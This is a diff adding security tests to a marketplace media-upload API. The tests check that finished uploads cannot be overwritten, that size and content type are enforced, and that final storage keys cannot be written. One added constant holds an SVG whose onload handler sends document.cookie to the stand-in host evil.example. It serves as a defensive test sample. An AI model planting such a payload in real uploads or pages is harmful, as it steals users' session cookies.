@@ -11,9 +11,11 @@ import pytest
 from litestar.testing import AsyncTestClient
 from PIL import Image
 
-from marketplace.entrypoints.container import build_container
+from marketplace.entrypoints.container import build_container, resolve
 from marketplace.entrypoints.http.app import create_app
 from tests.integration.web.conftest import Api, _settings
+
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`//evil.example/?`+document.cookie)"/>'
 
 
 def _png() -> bytes:
@@ -94,6 +96,42 @@ async def test_tampered_or_foreign_uploads_are_refused(local_api: Api) -> None:
     assert foreign.status_code == 404
     early = await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)
     assert early.status_code == 409
+
+
+async def test_a_completed_upload_cannot_be_rewritten_through_its_upload_url(local_api: Api) -> None:
+    api, seller = local_api, await local_api.register("seller")
+    auth = {"Authorization": seller["auth"]}
+    data = _png()
+    ticket = await _announce(api, auth, data)
+    assert await api.send_upload(ticket, data) == 200
+    assert (await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)).status_code == 200
+
+    assert await api.send_upload(ticket, SVG.ljust(3_000_000)) == 413, "more bytes than announced"
+    await api.send_upload(ticket, SVG.ljust(len(data)))  # at most a stray staging object, never served
+
+    again = await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)
+    assert (again.json()["size"], again.json()["content_type"]) == (len(data), "image/png")
+    original = await api.client.get(f"/api/v1/media/{ticket['media_id']}", headers=auth, follow_redirects=False)
+    fetched = await api.client.get(_local(original.headers["location"]))
+    assert (fetched.content, fetched.headers["content-type"]) == (data, "image/png")
+
+
+async def test_the_file_route_takes_no_more_than_announced_nor_another_type_nor_a_final_key(local_api: Api) -> None:
+    api, seller = local_api, await local_api.register("seller")
+    auth = {"Authorization": seller["auth"]}
+    data = _png()
+    ticket = await _announce(api, auth, data)
+    assert await api.send_upload(ticket, data + b"\0") == 413
+    assert await api.send_upload(ticket, data, content_type="image/svg+xml") == 403  # the type is signed
+    bigger = _local(ticket["upload_url"]).replace(f"size={len(data)}", f"size={len(data) + 1}")
+    assert (await api.client.put(bigger, content=data + b"\0", headers=ticket["headers"])).status_code == 403
+    assert (await api.client.post(f"/api/v1/media/{ticket['media_id']}/complete", headers=auth)).status_code == 409
+
+    storage = await resolve(api.container.storage)
+    final = f"media/{seller['id']}/{ticket['media_id']}/original.png"
+    signed = await storage.presign_upload(final, "image/png", len(data), 60)  # even a valid signature
+    assert (await api.client.put(_local(signed.url), content=data, headers=signed.headers)).status_code == 403
+    assert await storage.head(final) is None
 
 
 async def test_bad_announcements_are_422(api: Api) -> None:
